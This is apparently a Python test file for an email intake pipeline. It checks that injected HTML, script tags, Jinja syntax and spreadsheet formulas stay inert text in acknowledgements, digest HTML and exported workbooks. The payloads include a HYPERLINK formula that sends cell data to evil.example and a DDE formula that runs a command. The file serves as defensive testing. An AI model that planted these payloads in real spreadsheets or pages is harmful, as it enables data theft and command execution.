"""Injection: HTML, <script>, Jinja syntax and spreadsheet formulas arriving in a subject,
a file name or document text stay inert text in the digest HTML, the acknowledgement (HTML
and text parts) and the exported workbook."""

from __future__ import annotations

import re
import zipfile
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook

from intake import jobs, outgoing
from intake.pipeline import Context
from tests.fixtures.servers import SmtpSink
from tests.intake.helpers import TZ, deliver_maildir, docx_bytes, mail
from tests.reliability.common import write_config
from tests.reliability.hostile import XLSX_TYPE, xlsx_bytes

SCRIPT = "<script>alert('x')</script>"
HTML = "<img src=x onerror=alert(2)><b>粗体</b>"
JINJA = "{{ 7*7 }}{% for i in range(3) %}loop{% endfor %}"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
]


def at(day: int, hour: int = 10, minute: int = 0) -> datetime:
    return datetime(2020, 11, day, hour, minute, tzinfo=TZ)


def _deliver_hostile(ctx: Context) -> None:
    inbox = ctx.settings.path("data/mail")
    contact = docx_bytes(
        f"肥城市职业中等专业学校活动周联络员 {SCRIPT}",
        f"正文 {HTML} {JINJA}",
        table=[
            ["单位", "姓名", "职务", "邮箱", "手机号码"],
            ["肥城市职业中等专业学校", FORMULAS[1], FORMULAS[0], "zhang@fczz.cn", "13805381234"],
            ["肥城市职业中等专业学校", FORMULAS[2], FORMULAS[3], FORMULAS[4], "13805381235"],
        ],
    )
    stats = xlsx_bytes(
        [
            [
                "单位名称",
                "线上活动（场次）",
                "线下活动（场次）",
                "校园开放日（次）",
                "宣传报道（篇）",
            ],
            [FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[4], 5],
            [FORMULAS[0], 1, 2, 3, 4],
        ]
    )
    msg = mail(
        sender="fczz@ta.shandong.cn",
        subject=f"肥城职专活动周联络员 {SCRIPT} {JINJA} {FORMULAS[0]}",
        body=f"您好 {HTML} {JINJA}",
        files=[(f"联络员{SCRIPT}{JINJA}.docx", contact)],
        when=at(4, 9),
        message_id="<inject@fczz>",
    )
    msg.add_attachment(
        stats,
        maintype=XLSX_TYPE.split("/")[0],
        subtype=XLSX_TYPE.split("/")[1],
        filename="肥城职专2020年职业教育活动周情况统计表.xlsx",
    )
    deliver_maildir(inbox, msg, at(4, 9))
    # an unassigned stranger: its subject goes to the problems list and sheet
    deliver_maildir(
        inbox,
        mail(
            sender="someone@163.com",
            subject=f"{FORMULAS[0]} 活动周 {SCRIPT} {JINJA}",
            files=[(f"{FORMULAS[4]}{HTML}.docx", docx_bytes("活动周材料"))],
            when=at(4, 9, 5),
            message_id="<inject2@163.com>",
        ),
        at(4, 9, 5),
    )


def _assert_inert_html(html: str) -> None:
    assert "<script>" not in html and "onerror=alert" not in html.replace(
        "onerror=alert(2)&gt;", ""
    )
    assert "<img src=x" not in html
    assert "&lt;script&gt;" in html
    assert "{{ 7*7 }}" in html  # shown as typed, never evaluated
    assert "looploop" not in html


def test_payloads_are_inert_in_ack_digest_and_workbook(tmp_path: Path, smtp_sink: SmtpSink) -> None:
    _, settings = write_config(tmp_path, outbox_url=smtp_sink.url)
    ctx = Context.open(settings)
    _deliver_hostile(ctx)
    now = at(4, 10)
    jobs.poll_once(ctx, now=now)
    assert outgoing.acknowledge(ctx, now) == 1
    assert outgoing.flush(ctx, now).sent == 1
    [ack] = smtp_sink.received()
    text = ack.get_body(("plain",)).get_content()
    html = ack.get_body(("html",)).get_content()
    # text part: the payload verbatim (it is text), nothing rendered
    assert SCRIPT in text and "{{ 7*7 }}" in text and "looploop" not in text
    _assert_inert_html(html)
    assert "{{ 7*7 }}" in str(ack["Subject"])

    run = outgoing.digest(ctx, at(4, 17, 30))
    digest_html = run.html_path.read_text(encoding="utf-8")
    _assert_inert_html(digest_html)
    assert "&lt;script&gt;" in digest_html

    book_path = outgoing.export(ctx, tmp_path / "book.xlsx", at(4, 17, 30))
    wb = load_workbook(book_path)
    hits = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    hits.append((ws.title, cell.coordinate, cell.value))
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
    found = {v for _, _, v in hits}
    reached = {f for f in FORMULAS if any(v.lower().startswith(f.lower()[:5]) for v in found)}
    assert reached == set(FORMULAS), hits  # every payload reached the book, as text
    with zipfile.ZipFile(book_path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), name
